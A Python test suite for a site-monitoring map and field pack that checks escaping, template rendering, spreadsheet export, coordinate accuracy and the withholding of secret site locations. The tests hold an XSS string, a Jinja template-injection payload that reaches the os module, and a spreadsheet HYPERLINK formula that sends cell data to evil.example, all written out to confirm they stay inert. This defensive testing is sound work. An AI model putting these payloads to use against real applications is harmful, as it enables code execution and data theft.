"""Weekly map and field pack: hostile text stays text, coordinates round-trip."""

from __future__ import annotations

import csv

import geopandas as gpd
import gpxpy
import mgrs
from openpyxl import load_workbook
from pyproj import Geod
from shapely.geometry import Point, box

from maps.access import generalise, may_see_exact
from maps.escape import text
from maps.field_pack import Waypoint, patrol_order, write_field_pack
from maps.weekly_map import MapDetection, weekly_map
from sites import Site
from conftest import page_text

HOSTILE = "<script>alert('x')</script><img src=x onerror=alert(1)>${alert(2)}`"
GEOD = Geod(ellps="WGS84")


def _site(sid="S-1", name=HOSTILE, sens="restricted", x=106.9, y=47.9):
    return Site(sid, name, box(x, y, x + 0.01, y + 0.01), 50.0, sens, "Tuv")


def _det(sid="S-1", x=106.905, y=47.905):
    return MapDetection(f"{sid}-20240601-abc123", sid, Point(x, y).buffer(0.0005), "2024-06-01", "2024-06-20",
                        "2024-06-09", 0.8, "high", 2500.0, "bare_soil_exposure", "open", True)


def test_escape_neutralises_html_and_template_literals():
    out = text(HOSTILE)
    assert "<" not in out and ">" not in out and "`" not in out and "$" not in out
    assert "&lt;script&gt;" in out


def test_hostile_site_name_is_text_in_the_map(tmp_path):
    html = page_text(weekly_map([_site()], [_det()], "2024-W23").get_root().render())
    assert "<script>alert" not in html and "<img src=x" not in html and "${alert" not in html
    assert "&lt;script&gt;alert" in html


def test_template_syntax_in_data_neither_runs_nor_stops_the_map(tmp_path, monkeypatch):
    """branca compiles every element's output again as a Jinja template when the page is
    rendered: a site name, report text or id holding ``{{ ... }}`` ran Python in the weekly job,
    and one holding ``{%`` stopped the map.  Now they are shown as written."""
    from maps.weekly_map import MapReport

    monkeypatch.chdir(tmp_path)
    payload = "{{ cycler.__init__.__globals__.os.mkdir(dict(ran=1)|first) }}"  # made a folder before
    name, said = f"Mound {{{{ 7 * 6 }}}} {payload}", "{% for i in range(3) %}loop{% endfor %} {# note"
    det = MapDetection("S-1-20240601-{{7*6}}", "S-1", Point(106.905, 47.905).buffer(0.0005), "2024-06-01",
                       "2024-06-20", "2024-06-09", 0.8, "high", 2500.0, "bare_soil_exposure", "open", True,
                       evidence=said)
    rep = MapReport("rep-{%", 47.905, 106.905, "2024-06-02", said, "report_without_detection", "S-1", said)
    for access in ("restricted", "secret", "public"):
        html = page_text(weekly_map([_site(name=name)], [det], "2024-W23 {{", access=access, reports=[rep],
                                    unobserved={"S-1": said}, last_seen={"S-1": said}).get_root().render())
        assert not (tmp_path / "ran").exists()
        assert "Mound 42" not in html and "looplooploop" not in html and "-20240601-42" not in html
        assert "Mound &#123;&#123; 7 * 6 &#125;&#125; &#123;&#123; cycler" in html
    assert "&#123;% for i in range(3) %&#125;loop" in html


def test_secret_site_is_generalised_below_secret_access():
    secret = _site("S-2", "Hidden tomb", "secret", 100.123, 45.678)
    det = _det("S-2", 100.125, 45.680)
    html = page_text(weekly_map([secret], [det], "2024-W23", access="restricted").get_root().render())
    assert "100.125" not in html and "45.68" not in html.replace("45.65", "")  # exact lon/lat absent
    g = generalise(det.geometry)
    assert f"{g.y:.6f}" in html
    assert not may_see_exact("secret", "restricted") and may_see_exact("secret", "secret")
    assert not may_see_exact("public", "public")  # public exports never show outlines


def test_a_formula_in_a_site_name_stays_text_in_the_pack_workbook(tmp_path):
    """openpyxl stores a string starting with "=" as a formula; the pack's workbook stores it as
    the text it is, so opening the pack runs nothing (the CSV prefixes an apostrophe instead)."""
    name = '=HYPERLINK("http://evil.example/x?"&A1,"open")'
    paths = write_field_pack([Waypoint("D-1", name, 47.9, 106.9, "2024-06-01", "high", 900.0, "look")], tmp_path)
    cell = load_workbook(paths["xlsx"]).active.cell(2, 4)
    assert (cell.value, cell.data_type) == (name, "s")
    assert next(csv.DictReader(paths["csv"].open()))["site_name"] == "'" + name


def test_field_pack_round_trips_within_a_metre(tmp_path):
    wps = [Waypoint(f"D-{i}", HOSTILE, 47.9 + i * 0.01, 106.9 + i * 0.013, "2024-06-01", "high", 900.0, "look")
           for i in range(4)]
    paths = write_field_pack(wps, tmp_path, base=(47.85, 106.85))
    gpx = gpxpy.parse(paths["gpx"].read_text())
    kml = gpd.read_file(paths["kml"])  # KML written lon, lat; read back by GDAL's KML driver
    rows = list(csv.DictReader(paths["csv"].open()))
    gj = gpd.read_file(paths["geojson"])
    m = mgrs.MGRS()
    for w in wps:
        g = next(p for p in gpx.waypoints if p.comment == w.detection_id)
        assert GEOD.inv(g.longitude, g.latitude, w.lon, w.lat)[2] < 1.0
        assert len(g.name) <= 10 and g.description.startswith(w.detection_id)  # what a hand-held GPS can show
        k = kml[kml["Name"] == g.name].geometry.iloc[0]
        assert GEOD.inv(k.x, k.y, w.lon, w.lat)[2] < 1.0
        r = next(r for r in rows if r["detection_id"] == w.detection_id)
        assert r["waypoint"] == g.name
        assert GEOD.inv(float(r["lon"]), float(r["lat"]), w.lon, w.lat)[2] < 1.0
        assert r["mgrs"] == m.toMGRS(w.lat, w.lon, MGRSPrecision=5)
        lat, lon = m.toLatLon(r["mgrs"])
        assert GEOD.inv(lon, lat, w.lon, w.lat)[2] < 2.0  # 1 m MGRS cell
    sheet = load_workbook(paths["xlsx"]).active
    header = [c.value for c in sheet[1]]
    cells = {row[header.index("detection_id")].value: row for row in sheet.iter_rows(min_row=2)}
    for w in wps:
        r = {h: c for h, c in zip(header, cells[w.detection_id])}
        assert GEOD.inv(r["lon"].value, r["lat"].value, w.lon, w.lat)[2] < 1.0 and r["mgrs"].value == w.mgrs
        assert r["site_name"].value == HOSTILE
        q = gj[gj["detection_id"] == w.detection_id].geometry.iloc[0]
        assert GEOD.inv(q.x, q.y, w.lon, w.lat)[2] < 1.0
    assert [int(r["order"]) for r in rows] == [1, 2, 3, 4]
    assert float(rows[0]["distance_m"]) < float(rows[-1]["distance_m"])
    assert all(r["access_level"] == "restricted" for r in rows)
    # a KML viewer renders the description as HTML once the XML is read: the hostile name stays text
    descriptions = list(kml["description"])
    assert descriptions and all("<script>" not in d and "<img" not in d and "&lt;script&gt;" in d for d in descriptions)


def test_patrol_order_is_nearest_neighbour():
    a, b, c = (Waypoint(n, "s", 0.0, lon, "", "low", 1.0, "") for n, lon in (("a", 0.3), ("b", 0.1), ("c", 0.2)))
    assert [w.detection_id for w in patrol_order([a, b, c], base=(0.0, 0.0))] == ["b", "c", "a"]


def test_site_overview_is_warped_to_lon_lat_the_same_in_threads():
    """The overview base layer: the UTM look warped to EPSG:4326 lands where the site is, and
    concurrent warps (sites run in threads) give the same image as one alone."""
    import io
    from concurrent.futures import ThreadPoolExecutor

    import numpy as np
    from PIL import Image
    from pyproj import Transformer

    from change_detection.synthetic import synthetic_series
    from maps.chips import site_overview

    ds = synthetic_series(ny=40, nx=40, start="2011-06-01", end="2011-06-30", seed=3)
    ds["red"].values[-1, :10, :10] = 0.34  # a bright block in the north-west corner of the last look
    ds["nir"].values[-1, :10, :10] = 0.34
    ds["swir16"].values[-1, :10, :10] = 0.34
    one = site_overview(ds, "S-1")
    to_ll = Transformer.from_crs(32613, 4326, always_xy=True)
    x0, y1 = float(ds.x[0]) - 15, float(ds.y[0]) + 15
    x1, y0 = float(ds.x[-1]) + 15, float(ds.y[-1]) - 15
    lons, lats = to_ll.transform([x0, x1, x0, x1], [y0, y0, y1, y1])
    lon0, lat0, lon1, lat1 = one.bounds
    assert lon0 <= min(lons) + 1e-6 and lon1 >= max(lons) - 1e-6 and lat0 <= min(lats) + 1e-6 and lat1 >= max(lats) - 1e-6
    assert (lon1 - lon0) < 1.2 * (max(lons) - min(lons))
    img = np.asarray(Image.open(io.BytesIO(one.png)))
    h, w = img.shape[:2]
    bright = img[..., :3].mean(axis=-1) > 200
    rows, cols = np.nonzero(bright)
    assert rows.size and rows.mean() < h / 3 and cols.mean() < w / 3  # still in the north-west
    with ThreadPoolExecutor(4) as pool:
        many = list(pool.map(lambda _: site_overview(ds, "S-1"), range(16)))
    assert all(o.png == one.png and o.bounds == one.bounds for o in many)


def test_a_repeat_dig_says_so_on_the_map_and_the_field_sheet():
    from dataclasses import replace
    from maps.sheets import detection_sheet
    from pipelines.store import disturbed_before

    evidence = '{"earlier_disturbance_first_seen": "2022-06-01", "earlier_disturbance_share": 0.9}'
    assert disturbed_before(evidence) == "2022-06-01"
    assert disturbed_before('{"delta": {}}') == "" and disturbed_before(None) == "" and disturbed_before("[1]") == ""
    det = replace(_det(), disturbed_before=disturbed_before(evidence))
    html = page_text(weekly_map([_site()], [det], "2024-W23").get_root().render())
    assert "ground disturbed before (first seen 2022-06-01)" in html
    assert "disturbed before" not in page_text(weekly_map([_site()], [_det()], "2024-W23").get_root().render())
    sheet = detection_sheet(det, "Site", 47.9, 106.9, "48TUT", "", "restricted")
    assert "ground disturbed before (first seen 2022-06-01)" in sheet


def test_popup_shows_the_evidence_the_detection_rests_on():
    import json
    from dataclasses import replace

    from pipelines.store import evidence_summary

    stored = json.dumps({"features": ["ndvi", "red", "swir16"], "delta": {"ndvi": -0.2104, "red": 0.05, "swir16": 0.0441},
                         "clear_looks": 3, "mean_anomaly_sd": 4.24})
    line = evidence_summary(stored)
    assert line == "NDVI -0.210, red +0.050, SWIR +0.044; 4.2 robust sd from normal"
    snowy = json.dumps({"delta": {"swir16": 0.1}, "mean_anomaly_sd": 9.0, "looks_through_snow": 1})
    assert evidence_summary(snowy) == "SWIR +0.100; 9.0 robust sd from normal; seen through snow on 1 look"
    assert evidence_summary(None) == "" and evidence_summary("not json") == "" and evidence_summary('{"delta": 3}') == ""
    html = page_text(weekly_map([_site()], [replace(_det(), evidence=line)], "2024-W23").get_root().render())
    assert "Evidence" in html and "NDVI -0.210" in html
    plain = page_text(weekly_map([_site()], [_det()], "2024-W23").get_root().render())
    assert "Evidence" not in plain  # no row when nothing was stored


def test_a_report_text_does_not_give_away_a_generalised_place():
    """Where a report's point is generalised (a secret site below secret access, every report on a
    public map), coordinates written into its text are withheld too: decimal degrees, DMS, MGRS,
    plus codes, map links.  Where the reader may see the place, the text is shown as written."""
    from maps.weekly_map import MapReport

    secret = _site("S-2", "Hidden tomb", "secret", 100.123, 45.678)
    words = ("pits at 45.68312, 100.12771 (45°40'59\"N 100°07'40\"E, MGRS 47TPM0926359437, 8GX8+2X, "
             "https://maps.example.org/?q=45.683,100.128) by the 3.5 m wall")
    rep = MapReport("rep-1", 45.68312, 100.12771, "2024-06-02", words, "report_without_detection", "S-2", "no detection")
    html = page_text(weekly_map([secret], [], "2024-W23", access="restricted", reports=[rep]).get_root().render())
    for leak in ("45.68312", "100.12771", "45°40", "47TPM0926359437", "8GX8+2X", "maps.example.org", "45.683,100.128"):
        assert leak not in html, leak
    assert "[location withheld]" in html and "by the 3.5 m wall" in html
    shown = page_text(weekly_map([secret], [], "2024-W23", access="secret", reports=[rep]).get_root().render())
    assert "47TPM0926359437" in shown


def test_warping_overviews_in_threads_says_nothing_about_georeferencing():
    """rasterio warns "Dataset has no geotransform" at random when threads warp arrays or trace
    polygons at once (a known spurious warning); every demo run printed it, which tells an
    operator the imagery has no position.  In a fresh interpreter with that warning as an error,
    200 warps and 200 polygon tracings in 8 threads, the same polygons as alone (a race: without
    the filter the warps failed in 3 of 4 runs, the tracings in 3 of 3; never with it)."""
    import subprocess
    import sys

    code = ("import warnings\n"
            "from rasterio.errors import NotGeoreferencedWarning\n"
            "warnings.simplefilter('error', NotGeoreferencedWarning)\n"
            "from concurrent.futures import ThreadPoolExecutor\n"
            "from change_detection.synthetic import synthetic_series\n"
            "from maps.chips import site_overview\n"
            "ds = synthetic_series(ny=40, nx=40, start='2011-06-01', end='2011-06-30', seed=3)\n"
            "with ThreadPoolExecutor(8) as pool:\n"
            "    assert all(pool.map(lambda _: site_overview(ds, 'S-1'), range(200)))\n"
            "import numpy as np\n"  # and the detector's polygons (rasterio.features), as sites give them
            "from rasterio import features\n"
            "from rasterio.transform import from_origin\n"
            "m = np.zeros((40, 40), 'uint8'); m[5:9, 5:9] = 1\n"
            "def trace(_):\n"
            "    return list(features.shapes(m, mask=m.astype(bool), transform=from_origin(336390, 4462410, 30, 30)))\n"
            "alone = trace(0)\n"
            "assert alone[0][0]['coordinates'][0][0] == (336540.0, 4462260.0)\n"  # in metres, not pixels
            "with ThreadPoolExecutor(8) as pool:\n"
            "    assert all(t == alone for t in pool.map(trace, range(200)))\n")
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stderr[-2000:]


def test_outlines_are_drawn_to_a_tenth_of_a_metre_not_to_sixteen_digits():
    """A reprojected outline carries sixteen digits per coordinate, most of map.html for a
    registry of thousands; the map draws them to 1e-6 degrees (about 0.1 m)."""
    import re

    from sites.geo import buffer_m

    site = _site()
    html = page_text(weekly_map([site], [_det()], "2024-W23").get_root().render())
    coords = re.findall(r"-?\d+\.\d+(?=[,\]])", html.split("geo_json_", 1)[1])
    assert coords and max(len(c.split(".")[1]) for c in coords) <= 6
    x, y = buffer_m(site.geometry, site.buffer_m).exterior.coords[1]
    assert f"{round(x, 6)!r}" in html and f"{x!r}" not in html


def test_a_map_of_many_sites_is_a_few_layers_with_every_site_in_them():
    """Each kind of shape is one GeoJSON layer whatever the number of sites (a folium element per
    outline made a national map slow to write and to open); every site, buffer, dig and marker is
    still a feature there, with its own tooltip and popup."""
    import json
    import re

    def page(n):
        sites = [_site(f"S-{i}", f"Site {i}", x=106.9 + 0.02 * i) for i in range(n)]
        dets = [_det(f"S-{i}", x=106.905 + 0.02 * i) for i in range(0, n, 2)]
        unobserved = {f"S-{i}": "all looks cloudy" for i in range(0, n, 3)}
        return page_text(weekly_map(sites, dets, "2024-W23", unobserved).get_root().render())

    small, large = page(3), page(30)
    assert large.count("L.geoJson(") == small.count("L.geoJson(") == 4  # sites, new digs, their markers, unobserved
    collections = [json.loads(c) for c in re.findall(r"_add\((\{.*?\})\);\n", large)]
    features = [f for c in collections for f in c["features"]]
    assert len(features) == 30 * 2 + 15 * 2 + 10  # outline and buffer; dig and marker; not-observed ring
    popups = [f["properties"]["popup"] for f in features if "popup" in f["properties"]]
    assert sum("Site id</th><td>S-29<" in p for p in popups) == 1 and sum("S-28-20240601" in p for p in popups) == 2
    assert all(f["properties"]["tip"] for f in features)
    markers = [f["properties"]["style"] for f in features if f["geometry"]["type"] == "Point"]
    assert len(markers) == 25 and all(m["fillColor"] == m["color"] for m in markers)  # not folium's default blue
